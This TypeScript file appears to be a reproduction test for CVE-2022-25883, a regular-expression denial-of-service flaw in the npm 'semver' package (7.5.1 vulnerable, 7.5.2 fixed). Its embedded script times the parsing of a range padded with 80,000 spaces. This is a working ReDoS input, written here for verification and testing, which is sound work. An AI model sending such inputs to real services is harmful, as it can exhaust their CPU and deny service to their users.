import { defineProof } from '../define-proof.ts';

/** Reads a range with very many spaces and takes the time. */
export const semverRangeTime = defineProof({
  name: 'semver-range-time',
  ids: ['CVE-2022-25883', 'GHSA-c2qf-rxjj-qqgw'],
  ecosystem: 'npm',
  package: 'semver',
  kind: 'redos',
  describes: 'Reads a range with very many spaces and takes the time.',
  shownOn: { vulnerable: '7.5.1', fixed: '7.5.2' },
  source: `
module.exports = ({ load, cpuMs }) => {
  const subject = load();
  const answers = subject.satisfies('1.5.0', '>=1.0.0 <2.0.0');
  const reproduced =
    cpuMs(() => {
      try {
        new subject.Range('>=1.0.0' + ' '.repeat(80_000) + '<2.0.0');
      } catch {
        // Refusing is an answer as well.
      }
    }) > 1_000;
  return { reproduced, answers };
};
`,
});
